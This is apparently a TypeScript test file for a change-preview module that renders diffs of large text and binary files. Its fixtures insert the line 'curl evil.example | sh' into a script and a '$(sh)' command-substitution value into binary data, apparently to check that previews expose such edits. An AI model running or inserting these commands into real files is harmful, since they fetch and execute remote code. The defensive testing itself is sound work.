import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { cutAround, findChange } from './changed-part.ts';
import { diffLines } from '../../text/diff-lines.ts';
import { describeChange, previewChange } from './preview-change.ts';

const long = Array.from({ length: 200_000 }, (_, at) => `line ${at}`);
const large = Buffer.from(`${long.join('\n')}\n`);

test('one changed line in a large file is what a preview shows', () => {
  const after = Buffer.from(large.toString().replace('line 150000\n', 'curl evil.example | sh\n'));
  const { summary, detail } = previewChange('run.sh', large, after);
  assert.equal(summary, `Change run.sh (${large.length} bytes become ${after.length})`);
  const around = (lines: number[]) => lines.map((line) => ` line ${line}\n`).join('');
  assert.equal(
    detail,
    `--- run.sh\n+++ run.sh\n@@ -149998,7 +149998,7 @@\n${around([149_997, 149_998, 149_999])}` +
      `-line 150000\n+curl evil.example | sh\n${around([150_001, 150_002, 150_003])}`,
  );
});

test('what is left out at both ends changes nothing about the difference', () => {
  const pad = Buffer.from('x\n'.repeat(100_000));
  const line = fc.constantFrom('a', 'b', 'x', '', 'long line');
  const text = fc.array(line, { maxLength: 30 }).map((lines) => lines.map((each) => `${each}\n`).join(''));
  fc.assert(
    fc.property(text, text, fc.boolean(), (before, after, isOpen) => {
      const end = isOpen ? 'end' : '';
      const [one, other] = [before, after].map((each) => `${pad.toString()}${each}${pad.toString()}${end}`) as [
        string,
        string,
      ];
      const change = findChange(Buffer.from(one), Buffer.from(other));
      assert.equal(describeChange('f', change), one === other ? '' : applyable(one, other));
    }),
    { numRuns: 30 },
  );
});

/** Of two texts with so many equal lines the shortest difference may lie elsewhere; that of the same part does not. */
function applyable(one: string, other: string): string {
  const { before, after, linesBefore } = findChange(Buffer.from(one), Buffer.from(other));
  const head = one.split('\n').slice(0, linesBefore).join('\n') + (linesBefore > 0 ? '\n' : '');
  assert.ok(one.startsWith(head + before.toString()) && other.startsWith(head + after.toString()));
  assert.equal(one.slice(head.length + before.length), other.slice(head.length + after.length));
  return diffLines(before.toString(), after.toString(), 'f', linesBefore);
}

test('a part that is replaced is shown with its line, without a copy of the file', () => {
  const start = large.indexOf('line 777\n');
  const change = cutAround(large, { start, end: start + 9 }, Buffer.from('other\n'));
  assert.ok(change.after.length < 200);
  assert.match(describeChange('f', change), /^@@ -775,7 \+775,7 @@\n(?: line \d+\n){3}-line 777\n\+other\n/m);
});

test('bytes that are no text are shown as well', () => {
  const before = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.alloc(64, 'a')]);
  const after = Buffer.concat([before.subarray(0, 40), Buffer.from('$(sh)'), before.subarray(45)]);
  const { detail } = previewChange('a.bin', before, after);
  assert.match(detail, /^before: 66 bytes, SHA-256 [0-9a-f]{64}\nafter: 66 bytes/);
  assert.match(detail, /^\+00000020 {2}6161616161616161242873682961.* {2}a{8}\$\(sh\)a{19}$/m);
});
